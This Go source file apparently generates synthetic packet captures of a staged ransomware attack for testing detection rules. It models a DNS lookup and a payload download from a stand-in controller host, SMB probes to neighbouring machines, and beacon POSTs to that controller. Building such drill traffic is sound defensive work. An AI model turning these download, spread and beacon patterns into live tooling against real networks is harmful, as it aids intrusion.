package traffic

import (
	_ "embed"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"slices"
	"time"
)

// Rules are the detection rules for the composed attacks, in Suricata's
// language; the sensor loads them like any other file.
//
//go:embed antin.rules
var Rules []byte

// Step is a part of the attack.
type Step string

// The steps, in the order of the attack.
const (
	StepLookup   Step = "lookup"   // DNS question for the controller's name
	StepDownload Step = "download" // HTTP download of the marked payload
	StepSpread   Step = "spread"   // burst of SMB connections to neighbours
	StepBeacon   Step = "beacon"   // HTTP calls to the controller
)

// Steps returns all steps in order.
func Steps() []Step { return []Step{StepLookup, StepDownload, StepSpread, StepBeacon} }

// Length is how long the whole attack lasts.
const Length = 25 * time.Second

// Names and marks of the attack, which antin.rules looks for.
const (
	controllerName = "cap-nhat.khoa-du-lieu.example"
	payloadMark    = "ANTIN-DRILL-RANSOMWARE-MARKER-7F3A"
	beaconAgent    = "AntinBeacon/1.0"
)

// Limits and defaults of the attack.
const (
	defaultTargets = 8
	maxTargets     = 100
	beacons        = 3
	payloadBytes   = 6000
)

// ErrOptions means that an attack cannot be composed as asked.
var ErrOptions = errors.New("traffic: options")

// Options of Attack. The zero value of every field but Start has a default.
type Options struct {
	// Start is the time of the first packet.
	Start time.Time
	// Victim is the machine attacked; 10.3.9.23, of Tân Lập commune in the
	// reference province. Two attacks on one agency within half an hour are one
	// case: take a victim of another agency for another case.
	Victim netip.Addr
	// Resolver answers the victim's DNS questions; 10.1.0.53.
	Resolver netip.Addr
	// Controller is the attacker's server; 203.0.113.66.
	Controller netip.Addr
	// Targets is how many neighbours the victim tries; 8.
	Targets int
	// Steps to play; all.
	Steps []Step
	// Seed varies ports and numbers; the same seed gives the same bytes.
	Seed uint64
}

func (o *Options) complete() error {
	if o.Start.IsZero() {
		return fmt.Errorf("%w: no start time", ErrOptions)
	}
	for _, d := range []struct {
		addr *netip.Addr
		to   [4]byte
	}{{&o.Victim, [4]byte{10, 3, 9, 23}}, {&o.Resolver, [4]byte{10, 1, 0, 53}}, {&o.Controller, [4]byte{203, 0, 113, 66}}} {
		if !d.addr.IsValid() {
			*d.addr = netip.AddrFrom4(d.to)
		}
		if !d.addr.Is4() {
			return fmt.Errorf("%w: %s is not IPv4", ErrOptions, *d.addr)
		}
	}
	if o.Targets == 0 {
		o.Targets = defaultTargets
	}
	if o.Targets < 0 || o.Targets > maxTargets {
		return fmt.Errorf("%w: %d targets, want 1 to %d", ErrOptions, o.Targets, maxTargets)
	}
	if len(o.Steps) == 0 {
		o.Steps = Steps()
	}
	for _, s := range o.Steps {
		if !slices.Contains(Steps(), s) {
			return fmt.Errorf("%w: step %q is unknown", ErrOptions, s)
		}
	}
	return nil
}

// Attack writes the capture of a ransomware attack on one machine.
func Attack(w io.Writer, o Options) error {
	err := o.complete()
	if err != nil {
		return err
	}
	c := newComposer(o.Start, o.Seed)
	// A harmless look-up first, so that a capture is never all attack.
	c.dns(o.Victim, netip.AddrPortFrom(o.Resolver, 53), "dichvucong.example", netip.AddrFrom4([4]byte{203, 0, 113, 10}))
	for _, step := range o.Steps {
		c.wait(time.Second)
		switch step {
		case StepLookup:
			c.dns(o.Victim, netip.AddrPortFrom(o.Resolver, 53), controllerName, o.Controller)
		case StepDownload:
			c.download(o)
		case StepSpread:
			c.spread(o)
		case StepBeacon:
			c.beacon(o)
		}
	}
	return c.writeTo(w)
}

func (c *composer) download(o Options) {
	request := "GET /cap-nhat/van-ban-khan.exe HTTP/1.1\r\nHost: " + controllerName +
		"\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n"
	body := make([]byte, payloadBytes)
	for i := range body {
		body[i] = byte(c.random.Uint32())
	}
	copy(body, "MZ\x90\x00"+payloadMark)
	answer := fmt.Sprintf("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", len(body))
	c.tcp(netip.AddrPortFrom(o.Victim, c.port()), netip.AddrPortFrom(o.Controller, 80), []byte(request), append([]byte(answer), body...))
}

// spread tries the neighbours in the victim's /24 one after the other.
func (c *composer) spread(o Options) {
	base := o.Victim.As4()
	for i := range o.Targets {
		host := base
		host[3] = byte(100 + i)
		if host == base {
			host[3] = 250
		}
		c.tcp(netip.AddrPortFrom(o.Victim, c.port()), netip.AddrPortFrom(netip.AddrFrom4(host), 445), smbNegotiate(c.random.Uint64()))
		c.wait(100 * time.Millisecond)
	}
}

// smbNegotiate is an SMB2 NEGOTIATE request in its NetBIOS session message
// (MS-SMB2 §2.2.3, RFC 1002 §4.3.1).
func smbNegotiate(client uint64) []byte {
	const header, body = 64, 36 + 4
	b := make([]byte, 4+header+body)
	binary.BigEndian.PutUint32(b, header+body)
	h := b[4:]
	copy(h, "\xfeSMB")
	binary.LittleEndian.PutUint16(h[4:], header)
	n := h[header:]
	binary.LittleEndian.PutUint16(n, 36)
	binary.LittleEndian.PutUint16(n[2:], 2) // two dialects
	binary.LittleEndian.PutUint64(n[12:], client)
	binary.LittleEndian.PutUint16(n[36:], 0x0202)
	binary.LittleEndian.PutUint16(n[38:], 0x0210)
	return b
}

func (c *composer) beacon(o Options) {
	for i := range beacons {
		body := fmt.Sprintf("may=%08x&lan=%d", uint32(o.Seed), i+1)
		request := fmt.Sprintf("POST /tin-hieu HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Length: %d\r\n\r\n%s",
			controllerName, beaconAgent, len(body), body)
		c.tcp(netip.AddrPortFrom(o.Victim, c.port()), netip.AddrPortFrom(o.Controller, 80),
			[]byte(request), []byte("HTTP/1.1 204 No Content\r\nServer: nginx\r\n\r\n"))
		if i < beacons-1 {
			c.wait(5 * time.Second)
		}
	}
}
